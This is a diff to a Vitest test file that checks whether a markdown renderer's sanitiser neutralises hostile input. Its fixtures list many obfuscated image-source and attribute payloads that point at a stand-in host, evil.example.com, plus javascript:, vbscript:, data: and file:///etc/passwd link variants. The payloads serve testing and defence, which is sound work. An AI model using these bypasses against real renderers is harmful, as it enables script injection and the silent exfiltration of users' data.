@@ -1,11 +1,43 @@
 // @vitest-environment jsdom
-import { describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { renderMarkdown } from '../../src/ui/markdown';
+
+// Vitest exposes its JSDOM instance; moving the page to another URL shows how each URL resolves there.
+const page = (globalThis as unknown as { jsdom: { reconfigure(options: { url: string }): void } })
+  .jsdom;
+const httpsPage = 'https://app.example.org/map/';
+const httpPage = 'http://app.example.org/map/';
+
+beforeAll(() => page.reconfigure({ url: httpsPage }));
 
 function render(markdown: string): HTMLElement {
   const container = document.createElement('div');
   container.innerHTML = renderMarkdown(markdown);
   return container;
+}
+
+// Attributes that make a browser fetch or send something; none may survive on rendered markdown.
+const urlAttributes = [
+  'srcset',
+  'poster',
+  'action',
+  'formaction',
+  'xlink:href',
+  'background',
+  'ping',
+  'data',
+  'cite',
+  'longdesc',
+  'lowsrc',
+  'usemap',
+];
+
+// jsdom resolves `img.src` with the URL parser browsers use, against the page: whatever spelling the
+// attribute has, this is where the image would be fetched from.
+function loadsFromElsewhere(element: Element): boolean {
+  const resolved = new URL((element as HTMLImageElement).src);
+  if (resolved.protocol === 'data:') return !/^data:image\/(png|jpeg|gif|webp)/.test(resolved.href);
+  return resolved.origin !== window.location.origin;
 }
 
 // What an attacker would need to survive sanitising for script to run or data to leave the page.
@@ -44,15 +76,12 @@ function dangers(container: HTMLElement): string[] {
       ) {
         found.push(`${tag}[${attribute.name}=${value.slice(0, 30)}]`);
       }
-      if (tag === 'img' && attribute.name === 'src' && /^(https?:)?\/\//.test(value))
-        found.push('remote img');
-      if (
-        attribute.name === 'srcset' ||
-        attribute.name === 'formaction' ||
-        attribute.name === 'xlink:href'
-      ) {
-        found.push(`${tag}[${attribute.name}]`);
+      if (tag === 'img' && attribute.name === 'src' && loadsFromElsewhere(element)) {
+        found.push(`remote img ${(element as HTMLImageElement).src}`);
       }
+      if (attribute.name === 'href' && tag !== 'a') found.push(`${tag}[href]`);
+      if (attribute.name === 'src' && tag !== 'img') found.push(`${tag}[src]`);
+      if (urlAttributes.includes(attribute.name)) found.push(`${tag}[${attribute.name}]`);
     }
   }
   return found;
@@ -180,6 +209,152 @@ describe('renderMarkdown keeps hostile input inert', () => {
   it('drops class names other than a code language, so answers cannot borrow the app styles', () => {
     const container = render('<p class="mw-approval-card">fake</p>');
     expect(container.querySelector('p')?.hasAttribute('class')).toBe(false);
+  });
+});
+
+// Image sources a browser would fetch from evil.example.com: each must end up as a link, never an image.
+const remoteImages: Array<{ name: string; markdown: string }> = [
+  { name: 'an absolute URL', markdown: '![x](https://evil.example.com/p.png?d=secret)' },
+  { name: 'a mixed-case scheme', markdown: '<img src="HtTpS://evil.example.com/p.png">' },
+  { name: 'a protocol-relative URL', markdown: '<img src="//evil.example.com/p.png">' },
+  { name: 'a leading space', markdown: '<img src=" //evil.example.com/p.png">' },
+  { name: 'a leading control character', markdown: '<img src="\u0001//evil.example.com/p.png">' },
+  { name: 'two backslashes', markdown: '<img src="\\\\evil.example.com/p.png">' },
+  { name: 'escaped slashes', markdown: '<img src="\\/\\/evil.example.com/p.png">' },
+  { name: 'a slash, a tab and a slash', markdown: '<img src="/\t/evil.example.com/p.png">' },
+  { name: 'a slash, a newline and a slash', markdown: '<img src="/\n/evil.example.com/p.png">' },
+  { name: 'an entity-encoded tab', markdown: '<img src="/&#9;/evil.example.com/p.png">' },
+  { name: 'an entity-encoded newline', markdown: '<img src="/&#10;/evil.example.com">' },
+  { name: 'a tab inside the scheme', markdown: '<img src="ht\ttps://evil.example.com/p.png">' },
+  {
+    name: 'an entity inside the scheme',
+    markdown: '<img src="&#104;ttps&#58;//evil.example.com/p.png">',
+  },
+  {
+    name: 'the page host as user name',
+    markdown: '<img src="https://app.example.org@evil.example.com/p.png">',
+  },
+  { name: 'a markdown reference', markdown: '![x][1]\n\n[1]: //evil.example.com/p.png' },
+  { name: 'markdown angle brackets', markdown: '![x](<//evil.example.com/p.png>)' },
+];
+
+// Attributes besides img[src] that would make the browser load something: all must be gone.
+const otherLoads: Array<{ name: string; markdown: string }> = [
+  {
+    name: 'a srcset list',
+    markdown:
+      '<img src="a.png" srcset="a.png 1x, https://evil.example.com/p.png 2x, //evil.example.com/q.png 3x">',
+  },
+  {
+    name: 'a picture source',
+    markdown:
+      '<picture><source srcset="https://evil.example.com/p.png"><img src="a.png"></picture>',
+  },
+  { name: 'a video poster', markdown: '<video poster="https://evil.example.com/p.png"></video>' },
+  {
+    name: 'an SVG image href',
+    markdown: '<svg><image href="https://evil.example.com/p.png"/></svg>',
+  },
+  {
+    name: 'an SVG image xlink:href',
+    markdown:
+      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="//evil.example.com/p.png"/></svg>',
+  },
+  { name: 'a form action', markdown: '<form action="https://evil.example.com/"><p>x</p></form>' },
+  { name: 'a table background', markdown: '<table background="https://evil.example.com/p.png">' },
+  { name: 'a link ping', markdown: '<a href="#top" ping="https://evil.example.com/">x</a>' },
+  { name: 'a src on a paragraph', markdown: '<p src="https://evil.example.com/p.png">x</p>' },
+  { name: 'an image input', markdown: '<input type="image" src="https://evil.example.com/p.png">' },
+  { name: 'a blob image', markdown: '<img src="blob:https://evil.example.com/1234">' },
+];
+
+describe.each([
+  { label: 'https', url: httpsPage },
+  { label: 'http', url: httpPage },
+])('renderMarkdown on an $label page never loads an image from another origin', ({ url }) => {
+  beforeAll(() => page.reconfigure({ url }));
+
+  it.each(remoteImages)('$name becomes a link', ({ markdown }) => {
+    const container = render(markdown);
+    expect(dangers(container)).toEqual([]);
+    expect(container.querySelector('img')).toBeNull();
+    const link = container.querySelector('a');
+    expect(new URL(link?.getAttribute('href') ?? '', window.location.href).hostname).toBe(
+      'evil.example.com',
+    );
+    expect(link?.textContent).toMatch(/^image: /);
+    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  it.each(otherLoads)('$name loads nothing', ({ markdown }) => {
+    expect(dangers(render(markdown))).toEqual([]);
+  });
+
+  it('keeps images from its own origin', () => {
+    const sources = [
+      ...render('![a](chart.png) ![b](/assets/b.png) <img src="./c.png">').querySelectorAll('img'),
+    ].map((image) => image.src);
+    expect(sources).toEqual([`${url}chart.png`, new URL('/assets/b.png', url).href, `${url}c.png`]);
+  });
+});
+
+describe('renderMarkdown resolves a scheme without slashes as the page would', () => {
+  it('keeps an image whose scheme matches the page on the page origin', () => {
+    page.reconfigure({ url: httpsPage });
+    const image = render('<img src="https:chart.png">').querySelector('img');
+    expect(image?.src).toBe(`${httpsPage}chart.png`);
+  });
+
+  it.each([
+    { pageUrl: httpsPage, source: 'http:evil.example.com/p.png' },
+    { pageUrl: httpPage, source: 'https:evil.example.com/p.png' },
+  ])('treats $source as remote on $pageUrl', ({ pageUrl, source }) => {
+    page.reconfigure({ url: pageUrl });
+    const container = render(`<img src="${source}">`);
+    page.reconfigure({ url: httpsPage });
+    expect(container.querySelector('img')).toBeNull();
+    expect(container.querySelector('a')?.getAttribute('href')).toBe(
+      `${source.split(':')[0]}://evil.example.com/p.png`,
+    );
+  });
+});
+
+describe('renderMarkdown keeps every link on the web or in the mail client', () => {
+  const scripted = [
+    '<a href="JAVASCRIPT:alert(1)">x</a>',
+    '<a href=" javascript:alert(1)">x</a>',
+    '<a href="\u0001javascript:alert(1)">x</a>',
+    '<a href="java\nscript:alert(1)">x</a>',
+    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
+    '[x](javascript&#58;alert(1))',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="blob:https://app.example.org/1234">x</a>',
+    '<a href="file:///etc/passwd">x</a>',
+    '<a href="about:blank">x</a>',
+  ];
+
+  it.each(scripted)('%s loses its href', (markdown) => {
+    const link = render(markdown).querySelector('a');
+    expect(link?.hasAttribute('href')).toBe(false);
+  });
+
+  it('opens a protocol-relative or backslash link in a new tab without the opener', () => {
+    const links = [
+      ...render(
+        '<a href="//evil.example.com/">a</a> <a href="\\\\evil.example.com/">b</a>',
+      ).querySelectorAll('a'),
+    ];
+    for (const link of links) {
+      expect(new URL(link.getAttribute('href') ?? '', window.location.href).hostname).toBe(
+        'evil.example.com',
+      );
+      expect(link.getAttribute('target')).toBe('_blank');
+      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
+    }
+    expect(links).toHaveLength(2);
   });
 });
 
